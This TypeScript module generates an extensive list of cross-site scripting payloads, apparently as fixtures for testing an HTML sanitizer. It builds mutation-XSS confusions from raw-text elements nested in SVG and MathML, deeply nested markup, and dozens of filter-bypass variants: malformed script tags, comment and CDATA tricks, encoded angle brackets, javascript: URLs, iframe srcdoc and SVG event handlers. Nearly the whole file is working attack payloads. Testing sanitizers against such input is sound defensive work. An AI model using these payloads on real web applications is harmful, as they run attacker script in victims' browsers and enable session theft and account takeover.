import { act, foreign } from './acts.ts'

const image = `<img src=x onerror=${act}>`

/** Elements whose content is text for one parser and markup for another. */
const rawTexts = [
  'style',
  'xmp',
  'noscript',
  'textarea',
  'title',
  'iframe',
  'noembed',
  'noframes',
  'script',
  'plaintext',
  'template',
  'option',
]
const outers = ['svg', 'math']
const bridges: Readonly<Record<string, readonly string[]>> = {
  svg: ['foreignObject', 'desc', 'title', 'g', 'style'],
  math: [
    'mtext',
    'mi',
    'annotation-xml encoding=text/html',
    'annotation-xml encoding=application/xhtml+xml',
    'semantics',
    'mglyph',
  ],
}
const inners = ['table', 'form', 'p', 'a', 'select', 'mglyph', 'svg', 'math', 'br', 'ul']

/** Mutation XSS: parsers that close, move or rename elements, so that text for one is markup for the next. */
function* confusions(): Generator<string> {
  for (const raw of rawTexts) {
    yield `<${raw}><p title="</${raw}>${image}">`
    yield `<${raw}><!--</${raw}>${image}-->`
    yield `<p><${raw}><a title="</${raw}>${image}"></a></${raw}></p>`
    yield `<${raw}>&lt;/${raw}&gt;${image}</${raw}>`
    yield `<${raw}/>${image}`
    yield `<a href="/m/home"><${raw}></a>${image}`
    for (const outer of outers) {
      yield `<${outer}></p><${raw}><a id="</${raw}>${image}">`
      yield `<${outer}><${raw}><!--</${raw}>${image}--></${outer}>`
      for (const bridge of bridges[outer] ?? []) {
        yield `<${outer}><${bridge}><${raw}><!--</${raw}>${image}-->`
        yield `<${outer}><${bridge}><table><${outer === 'math' ? 'mglyph' : 'g'}><${raw}><!--</${raw}>${image}">-->`
      }
    }
  }
  for (const outer of outers) {
    for (const bridge of bridges[outer] ?? []) {
      for (const inner of inners) {
        yield `<form><${outer}><${bridge}></form><form><${inner}><style></${outer}>${image}</style>`
        yield `<${outer}><${bridge}><${inner}><mglyph><style><!--</style>${image}-->`
      }
    }
  }
}

const depths = [30, 300, 600]

function* odd(): Generator<string> {
  for (const depth of depths) {
    yield `${'<div>'.repeat(depth)}<style><!--</style>${image}-->`
    yield `${'<p><em>'.repeat(depth)}${image}`
    yield `${'<blockquote>'.repeat(depth)}${image}${'</blockquote>'.repeat(depth)}`
    yield `${'<table><tr><td>'.repeat(depth)}${image}`
    yield `${'<svg><desc>'.repeat(depth)}${image}`
    yield `${'<form><math><mtext></form>'.repeat(depth)}<mglyph><svg><mtext><style><path id="</style>${image}">`
  }
  const script = `<script>${act}</script>`
  yield* [
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `<<script>${act}//<</script>`,
    `<script\u0000>${act}</script>`,
    `<script/xss>${act}</script\t>`,
    `<SCRIPT\n>${act}</SCRIPT >`,
    `<script>${act}`,
    `<script x>${act}</script x>`,
    `<script>${act}</script/`,
    `<script type="text/javascript;x=1">${act}</script>`,
    `<script>/*<!--*/${act}//--></script>`,
    `<script nonce=x>${act}</script>`,
    `<script type=importmap>{"imports":{"x":"${foreign}"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${foreign}"]}]}</script>`,
    `</p>${script}`,
    `</div></main></body>${script}`,
    `--><script>${act}</script>`,
    `"><script>${act}</script>`,
    `'><img src=x onerror=${act}>`,
    `\`><img src=x onerror=${act}>`,
    `<!--><img src=x onerror=${act}>-->`,
    `<!---><img src=x onerror=${act}>-->`,
    `<!--!><img src=x onerror=${act}>-->`,
    `<!-- --!><img src=x onerror=${act}>-->`,
    `<! foo="><img src=x onerror=${act}>">`,
    `<? foo="><img src=x onerror=${act}>">`,
    `</ foo="><img src=x onerror=${act}>">`,
    `<% foo><img src=x onerror=${act}>%>`,
    `<![CDATA[<img src=x onerror=${act}>]]>`,
    `<![CDATA[>]]><img src=x onerror=${act}>`,
    `<svg><![CDATA[></svg><img src=x onerror=${act}>]]>`,
    `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${act}>">]><p>&y;</p>`,
    `<?xml-stylesheet href="javascript:${act}"?><p>x</p>`,
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${act}</script></html>`,
    `<!--[if gte IE 4]><script>${act}</script><![endif]-->`,
    `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
    `\u00BCscript\u00BE${act}\u00BC/script\u00BE`,
    `\uFF1Cscript\uFF1E${act}\uFF1C/script\uFF1E`,
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${act}&amp;gt;`,
    `&#x3c;img src=x onerror=${act}&#x3e;`,
    `\\x3cimg src=x onerror=${act}\\x3e`,
    `\\u003cimg src=x onerror=${act}\\u003e`,
    `<img src=x onerror=${act}\u0000>`,
    `<img/src=x/onerror=${act}>`,
    `<img src=x onerror=${act}//`,
    `<img src="x\`<img src=x onerror=${act}>`,
    `<img """><script>${act}</script>">`,
    `<img src=x:x onerror=${act} alt="<p>">`,
    `<img alt="<x" title="/><img src=x onerror=${act}>">`,
    `<a href="/m/home" title='"><img src=x onerror=${act}>'>x</a>`,
    `<a href="/m/home?x=&quot;><img src=x onerror=${act}>">x</a>`,
    `<a<b href="/m/home" onclick=${act}>x</a>`,
    `<a href="/m/home"<img src=x onerror=${act}>`,
    `<p ="x" onclick=${act}>x</p>`,
    `<p =\u0000 '><img src=x onerror=${act}>`,
    `<table><a href="javascript:${act}">x</a><tr><td>`,
    `<table><script>${act}</script><tr><td>x</table>`,
    `<select><option><img src=x onerror=${act}></select>`,
    `<select><iframe src="javascript:${act}"></select>`,
    `<button><p></button><img src=x onerror=${act}>`,
    `<ruby><rt><p></ruby><img src=x onerror=${act}>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<svg><p><style><g title="</style><img src=x onerror=${act}>">`,
    `<svg></br><style><a title="</style><img src=x onerror=${act}>">`,
    `<math><mtext><table><mglyph><style><math><img src=x onerror=${act}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${act} src>">`,
    `<svg><style><img src=x onerror=${act}></style></svg>`,
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;top.${act}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><set onbegin=${act}><discard onbegin=${act}>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${act}</handler></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x"/></svg>`,
    `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${act}</x:script><x:img src=x onerror=${act}></svg>`,
    `<xml:namespace prefix=t><t:set attributeName=innerHTML to="<img src=x onerror=${act}>">`,
    `<iframe srcdoc="<script>top.${act}</script>"></iframe>`,
    `<iframe src="${foreign}" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
    `<embed src="data:text/html,<script>${act}</script>" type=text/html>`,
    `<img is=x-own src=x onerror=${act}>`,
    `<p is="x-own" slot=x part=x>x</p>`,
  ]
}

export const nestPayloads = (): string[] => [...confusions(), ...odd()]
